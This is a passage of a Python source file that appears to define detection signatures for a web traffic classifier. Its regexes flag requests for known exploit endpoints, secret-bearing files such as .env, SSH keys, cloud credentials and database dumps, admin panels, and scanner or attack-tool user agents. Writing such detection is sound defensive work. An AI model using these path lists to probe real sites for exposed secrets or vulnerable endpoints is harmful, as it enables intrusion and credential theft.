        "Upload scripts of editors and file managers, which took any file from anybody.",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        unless_served=True,
    ),
    Signature(
        "edge-product",
        EXPLOIT,
        TARGET,
        r"/htmlawedtest\.php|/getphpinfo\.php|/php/ztp_gate\.php|/pcidss/report\?|/user-role/rest-userrole"
        r"|/webinterface/function/?\?.{0,60}(?:command=|c2f=)|/app/rest/(?:users/id:\d{1,9}/tokens|debug/processes)"
        r"|[?&]jsp=/app/rest/|/cobbler_api$|/functionrouter$|/tmunblock\.cgi$|/api/jsonws/invoke$|/cli\?remoting=false"
        r"|/users/id:\d{1,9}/tokens/rpc2|/hnap1/?$|/cgi-bin/viewlog\.asp|/debug/pyspidervulntest|/admin/config\.php\?"
        r"password(?:\[|%5b)|/fileserver/[\w.-]{1,40}\.jsp$|/manager/text/(?:deploy|undeploy)|/adminapi/accessmanager"
        r"|/aspera/faspex/package_relay|/nuxeo/login\.jsp/|/api/v\d/php-?fpm|/rpc/set_safe_mode|/_all_dbs\?"
        r"|/xmlpserver/.{0,40}<!|/oauth/idp/\.well-known/|/rest/tinymce/1/macro/preview|/sys/ui/extend/varkind/custom\.jsp"
        r"|/seeyon/(?:htmlofficeservlet|thirdpartycontroller)|/weaver/bsh\.servlet\.bshservlet|/cgi-bin/libagent\.cgi"
        r"|/plugins/weathermap/editor\.php|/index\.php\?.{0,20}option=com_(?:fields|jce|jdownloads|fabrik)\b.{0,120}"
        r"(?:fullordering|upload)|/nation\.php|/horde/(?:imp|turba)/.{0,60}<|/dfs/\w{0,20}upload|/tos/index\.php\?.{0,40}exec",
        _words(
            "htmlawedtest getphpinfo ztp pcidss rest webinterface processes tokens cobbler functionrouter tmunblock "
            "jsonws cli"
        )
        + _words(
            "hnap1 viewlog pyspidervulntest password fileserver manager accessmanager faspex nuxeo fpm rpc all oauth"
        )
        + _words(
            "xmlpserver tinymce varkind seeyon weaver libagent weathermap fullordering com nation horde dfs tos jsp"
        ),
        "Products whose hole has an address of its own: CrushFTP, TeamCity, GLPI, ownCloud, Palo Alto, NetScaler, "
        "Liferay, Ivanti...",
        "/vendor/htmlawed/htmlawed/htmLawedTest.php",
        unless_served=True,
    ),
    # --- files that hold secrets ------------------------------------------------------------------------------------
    Signature(
        "dotenv",
        SENSITIVE_FILE,
        ("path",),
        r"/\.env(?![a-z])|/\.envrc\b|[\w-]\.env(?:\.\w{1,12})?$|/env\.(?:bak|old|save|backup|prod\w{0,8}|dev\w{0,9}"
        r"|local|php|txt)$",
        _words("env envrc"),
        "The file where frameworks keep passwords and keys.",
        "/api/.env.production",
    ),
    Signature(
        "version-control",
        SENSITIVE_FILE,
        ("path",),
        r"/\.(?:git(?:ignore|attributes|modules|lab-ci\.yml)?|svn|hg|bzr|cvs|cvsignore|hgignore|gitlab-ci)(?:[/.]|$)"
        r"|/cvs/(?:root|entries)$",
        _words("git gitignore gitattributes gitmodules gitlab svn hg bzr cvs cvsignore hgignore"),
        "A repository left beside the site gives out the source and its history.",
        "/.git/config",
    ),
    Signature(
        "key-file",
        SENSITIVE_FILE,
        ("path",),
        r"/\.?(?:id_(?:rsa|dsa|ecdsa|ed25519)|identity|authorized_keys|known_hosts)(?:\.\w{1,8})?$|\.(?:pem|ppk|pfx"
        r"|p12|jks|keystore"
        r"|kdbx|ovpn)$|/(?:server|private|ssl|privkey|host|tls|secret|jwt|localhost)[\w.-]{0,20}\.key$|/\.ssh\b"
        r"|/\.gnupg\b",
        _words("rsa dsa ecdsa ed25519 identity keys hosts pem ppk pfx p12 jks keystore kdbx ovpn key ssh gnupg"),
        "A private key.",
        "/.ssh/id_rsa",
        unless_served=True,
    ),
    Signature(
        "account-file",
        SENSITIVE_FILE,
        ("path",),
        r"/\.(?:aws|azure|docker|kube|gcloud|boto|s3cfg|npmrc|yarnrc|pypirc|netrc|pgpass|my\.cnf|htpasswd|htaccess"
        r"|htdigest|composer"
        r"|git-credentials|mysql_history|psql_history|bash_history|zsh_history|sh_history|history|bashrc"
        r"|bash_profile|zshrc"
        r"|profile|viminfo|rhosts|forward|passwd|subversion|wget-hsts|config|cache|dbeaver|remote-sync|ftpconfig"
        r"|ftppass"
        r"|sftp-config|vscode|idea|terraform|travis\.yml|circleci|ds_store)\b|/sftp(?:-config)?\.json$"
        r"|/filezilla\.xml$",
        _words(
            "aws azure docker kube gcloud boto s3cfg npmrc yarnrc pypirc netrc pgpass cnf htpasswd htaccess htdigest "
            "composer"
        )
        + _words(
            "credentials history bashrc bash zshrc profile viminfo rhosts forward passwd subversion wget config cache"
        )
        + _words("dbeaver remote ftpconfig ftppass sftp vscode idea terraform travis circleci ds filezilla zsh"),
        "Files of somebody's home directory or editor: credentials, history, hosts.",
        "/.aws/credentials",
        unless_served=True,
    ),
    Signature(
        "settings-file",
        SENSITIVE_FILE,
        ("path",),
        r"/(?:wp-config|configuration|config(?:\.inc|\.local|uration)?|settings(?:\.local|\.inc)?|local"
        r"|localsettings|database|db|connect"
        r"|parameters|env|app|secrets?|credentials|local_settings|production|prod|application|bootstrap|master"
        r"|serviceaccount"
        r"|firebase|aws|s3|smtp|mail|sendgrid|twilio|stripe|constants)[\w-]{0,20}\.(?:php|inc|yml|yaml|json|py|xml"
        r"|ini|env|js|"
        r"properties|toml|conf|cfg|txt)(?:\.(?:bak|old|save|swp|orig|dist|txt|backup|copy|tmp|1|zip)|~)$"
        r"|/wp-config[\w.-]{0,60}$|/(?:web|app|machine)\.config$|/appsettings[\w.]{0,60}\.json$|/(?:application"
        r"|bootstrap)[\w-]{0,60}\.(?:ya?ml"
        r"|properties)$|/(?:database|secrets?|credentials|parameters|config)\.(?:ya?ml|ini|env|properties|toml|cfg)$"
        r"|/(?:secrets?|credentials|serviceaccountkey|service-account|aws|aws-credentials|smtp|sendgrid|twilio|stripe)"
        r"[\w-]{0,20}\.(?:json|txt|ya?ml|env)$|/(?:docker-compose|compose)[\w.-]{0,20}\.ya?ml$|/dockerfile$"
        r"|/terraform\.tfstate"
        r"|/(?:local_)?settings\.py$|/config/(?:database|secrets|master)\b|/composer\.(?:json|lock)$"
        r"|/\w{1,60}\.tfvars$",
        _words(
            "wp config configuration settings local localsettings database db connect parameters app secret secrets "
            "credentials"
        )
        + _words(
            "production prod application bootstrap master serviceaccount serviceaccountkey firebase aws s3 smtp mail "
            "sendgrid"
        )
        + _words(
            "twilio stripe constants web machine appsettings docker compose dockerfile terraform tfvars composer "
            "service env"
        ),
        "Settings with database passwords or keys, and the copies editors leave of them.",
        "/wp-config.php.bak",
        unless_served=True,
    ),
    Signature(
        "dump-or-backup",
        SENSITIVE_FILE,
        ("path",),
        r"/[\w.-]{0,60}\.(?:sql|sqlite3?|db3?|mdb|bak|dump)(?:\.(?:gz|zip|bz2|xz|7z|tar|rar|tgz))?$"
        r"|/(?:[\w-]{0,20}(?:backup|dump|database|db|bak|www|wwwroot|htdocs|public_html|site|website|old|source|src|"
        r"mysql|wordpress)[\w-]{0,20}|[\w-]{1,60}\.(?:com|net|org|io|de))\."
        r"(?:zip|rar|7z|tgz|tar|tar\.gz|tar\.bz2|tar\.xz|gz|bz2)$|\.(?:php\d?|py|rb|js|aspx?|jsp|html?)(?:\.(?:bak"
        r"|old|save|swp|orig"
        r"|backup|copy|tmp)|~)$|/\.[\w.-]{1,40}\.sw[po]$",
        _words(
            "sql sqlite sqlite3 db db3 mdb bak dump zip rar 7z tgz tar gz bz2 xz old save swp swo orig backup copy tmp"
        )
        + ("~",),
        "A copy of the database or of the site, left where it can be fetched.",
        "/backup/db.sql.gz",
        unless_served=True,
    ),
    Signature(
        "inner-state",
        SENSITIVE_FILE,
        URL,
        r"/(?:php-?info|info|pinfo|infophp|php_info|phpversion|i|test|php|infos|p)\.php\d?$|/server-(?:status|info)$"
        r"|/actuator/(?:env|heapdump|"
        r"configprops|mappings|threaddump|httptrace|loggers|logfile|beans|trace)\b|^/(?:heapdump|env|trace"
        r"|configprops)(?:\.json)?$"
        r"|/debug/(?:pprof|vars|default/view)|/_profiler/(?:phpinfo|open|empty)|/(?:laravel|debug|error_log"
        r"|npm-debug|php_errors?|wp-debug)"
        r"\.log$|/error_log$|/telescope/requests|/storage/logs/|/elmah\.axd|/trace\.axd|/_debugbar/|/nginx_status$"
        r"|/__debug__/"
        r"|/v1/agent/self$|/api/v1/(?:pods|secrets)\b|/_cat/indices|/\.well-known/\.\.",
        _words(
            "phpinfo info pinfo infophp phpversion i test php infos p server actuator heapdump env trace configprops "
            "debug profiler"
        )
        + _words("laravel error npm telescope storage elmah debugbar nginx self pods secrets indices"),
        "Pages that show the server's own state: environment, memory, traces, logs.",
        "/actuator/heapdump",
        unless_served=True,
    ),
    Signature(
        "hidden-file",
        SENSITIVE_FILE,
        ("path",),
        # Names that applications and systems do serve or ask for under a dot are left out.
        r"(?:^|/)\.(?!well-known|github|netlify|auth|proxy|next|nuxt|vite|vercel|output|storybook|_|ds_store|cache/"
        r"|client|rest)[a-z][\w.-]{1,40}(?:/|$)",
        ("/.",),
        "Names that begin with a dot are hidden from listings on purpose, and no page links to one.",
        "/.secret-config",
        unless_served=True,
    ),
    # --- software that is not here ----------------------------------------------------------------------------------
    Signature(
        "wordpress",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/wp-(?:login|admin|includes|json|cron|signup|trackback|mail|load|settings|blog-header|comments-post"
        r"|links-opml|activate)"
        r"|/wp-content/(?!uploads/.{0,200}\.(?:jpe?g|png|gif|webp|svg|pdf|mp4)$)|/xmlrpc\.php|/wlwmanifest\.xml"
        r"|/wp-?\w{0,12}\.php$",
        ("wp", "xmlrpc", "wlwmanifest"),
        "WordPress, its plugins and its doors. Old pictures under uploads are what search engines remember: left out.",
        "/blog/wp-login.php",
        unless_served=True,
    ),
    Signature(
        "admin-panel",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/(?:php-?my-?admin[\w.-]{0,20}|adminer[\w.-]{0,20}|(?:pma|myadmin|mysql-?admin|mysql-?manager|mysql"
        r"|phppgadmin|pgadmin|dbadmin|sqladmin|websql"
        r"|sqlweb)[\d.-]{0,12})(?:/|$)"
        r"|/administrator/|/admin(?:istrator)?/(?:config|db|phpmyadmin|pma|sqladmin|includes|fckeditor|elfinder"
        r"|controller)|/admin\.(?:php|aspx?"
        r"|jsp|cgi)|/(?:cpanel|whm|plesk|webmin|directadmin|vestacp|ispconfig|manager/html|host-manager|jmx-console"
        r"|web-console"
        r"|zabbix|nagios|cacti|grafana/login|kibana|app/kibana|solr/admin|hudson|jenkins|rabbitmq|portainer|netdata)\b",
        _words(
            "phpmyadmin phpmyadmin2 phpmyadmin2017 pma myadmin mysql mysqladmin mysqlmanager phppgadmin pgadmin "
            "pgadmin4 adminer"
        )
        + _words(
            "dbadmin sqladmin websql sqlweb administrator admin cpanel whm plesk webmin directadmin vestacp ispconfig"
        )
        + _words(
            "manager jmx console zabbix nagios cacti grafana kibana solr hudson jenkins rabbitmq portainer netdata"
        )
        + ("myadmin", "my-admin", "phpmy"),
        "Panels for administering databases and hosts.",
        "/phpMyAdmin-5.1/index.php",
        unless_served=True,
    ),
    Signature(
        "web-mail-and-vpn",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/owa(?:/|$)|/ecp(?:/|$)|/autodiscover/|/ews/|/roundcube|/webmail(?:/|$)|/zimbra|/squirrelmail"
        r"|/\+csco[et]\+|/remote/login|/dana-na/"
        r"|/global-protect/|/ssl-vpn/|/vpn/index|/tmui/login|/logon/logonpoint|/citrix/|/rdweb|/remoteweb|/sra_\{"
        r"|/sslvpn|/my\.policy"
        r"|/cgi-bin/authlogin|/cgi/networkdiag|/setup\.cgi|/webfig/|/doc/page/login|/hnap1|/owncloud/"
        r"|/nextcloud/status|/evox/about"
        r"|/geoserver/|/vcenter|/sdk$|/ui/login\.action|/login\.action$|/server-info\.action|/dashboard/login\.php"
        r"|/teorema505",
        _words(
            "owa ecp autodiscover ews roundcube webmail zimbra squirrelmail cscoe cscot remote dana global ssl vpn "
            "tmui logon"
        )
        + _words(
            "citrix rdweb remoteweb sra sslvpn policy authlogin networkdiag setup webfig login hnap1 owncloud "
            "nextcloud evox"
        )
        + _words("geoserver vcenter sdk action teorema505"),
        "Mail, remote access and network appliances: what a scanner that maps the internet asks every host for.",
        "/+CSCOE+/logon.html",
        unless_served=True,
    ),
    Signature(
        "cgi-program",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/cgi-bin/[\w./-]{1,80}|/cgi-sys/|/cgi-mod/|/scripts/\w{1,30}\.(?:cgi|pl|exe)|/_vti_(?:bin|pvt|inf)"
        r"|/nph-test-cgi|/printenv",
        ("cgi", "cgi-bin", "vti", "scripts", "printenv"),
        "Programs of the first web servers, still asked for because they were so often open.",
        "/cgi-bin/test-cgi",
        unless_served=True,
    ),
    Signature(
        "content-management",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/(?:typo3|joomla|drupal|magento|prestashop|opencart|oscommerce|moodle|vbulletin|phpbb\d?|mantis|bitrix"
        r"|umbraco|sitecore|dotnetnuke"
        r"|concrete5|modx|sitefinity|kentico|whmcs|thinkphp|laravel|symfony|codeigniter|yii)(?:/|\.php|$)|/(?:fck"
        r"|ck)editor/"
        r"|/elfinder|/kcfinder|/filemanager/|/vendor/(?:composer|phpunit|laravel|autoload)|/sites/(?:default|all)/"
        r"|/core/install\.php|/install\.php$"
        r"|/components/com_|/modules/mod_|/plugins/(?:content|system)/|/index\.php/admin",
        _words(
            "typo3 joomla drupal magento prestashop opencart oscommerce moodle vbulletin phpbb phpbb2 phpbb3 mantis "
            "bitrix umbraco"
        )
        + _words("sitecore dotnetnuke concrete5 modx sitefinity kentico whmcs thinkphp laravel symfony codeigniter yii")
        + _words("fckeditor ckeditor elfinder kcfinder filemanager vendor sites install com mod plugins php"),
        "Other shops, forums and frameworks, and the editors and uploads they bring.",
        "/sites/default/files/",
        unless_served=True,
    ),
    # --- tools that say what they are ------------------------------------------------------------------------------
    Signature(
        "scanner-probe",
        SCANNER_AGENT,
        ("path",),
        r"/nice ports,/tri|/nmaplowercheck\d|/acunetix[\w.-]{0,20}|/w00tw00t|/nikto|/netsparker[\w.-]{0,20}|/nessus\d"
        r"|/appscan_fingerprint|/qualys\w{0,10}\d|/openvas|/sqlmap|/burpcollab",
        _words("nice acunetix nikto netsparker openvas sqlmap appscan")
        + ("nmaplowercheck", "w00tw00t", "nessus", "qualys")
        + ("burpcollab", "acunetix", "fingerprint"),
        "A page that only a scanner asks for, to learn how this site says that there is none.",
        "/nice%20ports%2C/Tri%6Eity.txt%2ebak",
        unless_served=True,
    ),
    Signature(
        "attack-tool",
        SCANNER_AGENT,
        ("agent",),
        r"\b(?:nikto|sqlmap|nuclei|wpscan|dirbuster|gobuster|dirb|feroxbuster|ffuf|fuzz faster|wfuzz|acunetix"
        r"|netsparker|invicti|nessus|openvas"
        r"|w3af|arachni|skipfish|havij|zmeu|jorgee|morfeus|hydra|medusa|whatweb|joomscan|commix|xsser|paros|appscan"
        r"|webinspect|burp"
        r"|grendel|metis|pangolin|bsqlbf|absinthe|fhscan|masscan|zgrab|libredtail|mozi|hello,? world|l9explore"
        r"|l9tcpid|lkxscan|"
        r"gh0st|sipvicious|dirsearch|jaeles|interactsh|katana|pocsuite|goby|fuff)\b",
        _words(
            "nikto sqlmap nuclei wpscan dirbuster gobuster dirb feroxbuster ffuf fuzz wfuzz acunetix netsparker "
            "invicti nessus openvas"
        )
        + _words(
            "w3af arachni skipfish havij zmeu jorgee morfeus hydra medusa whatweb joomscan commix xsser paros "
            "appscan webinspect"
        )
        + _words(
            "burp grendel metis pangolin bsqlbf absinthe fhscan masscan zgrab libredtail mozi hello l9explore "
            "l9tcpid lkxscan gh0st"
        )
        + _words("sipvicious dirsearch jaeles interactsh katana pocsuite goby fuff"),
        "A tool for finding or using holes that did not trouble to hide its name.",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    ),
)
